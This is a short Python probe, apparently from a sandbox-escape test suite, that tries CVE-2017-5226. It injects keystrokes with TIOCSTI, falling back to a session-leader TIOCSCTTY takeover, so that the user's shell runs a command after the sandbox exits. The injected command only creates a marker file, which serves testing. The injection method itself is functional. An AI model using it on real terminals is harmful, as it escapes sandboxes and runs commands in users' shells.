# tiocsti: push keystrokes into the terminal on stdin with TIOCSTI, so the
# user's shell runs them after the sandbox exits (CVE-2017-5226).  When the
# kernel refuses (the terminal is not ours), a child becomes a session
# leader and takes it as its controlling terminal with TIOCSCTTY first.
import fcntl, os, sys, termios
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}


def push(keys):
    for c in keys:
        fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))


keys = f"touch {T['T_MARKER']}\n".encode()
try:
    push(keys)
except OSError as e:
    print("TIOCSTI:", e, flush=True)
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)
            push(keys)
        except OSError as e:
            print("TIOCSTI as session leader:", e, flush=True)
        os._exit(0)
    os.waitpid(pid, 0)
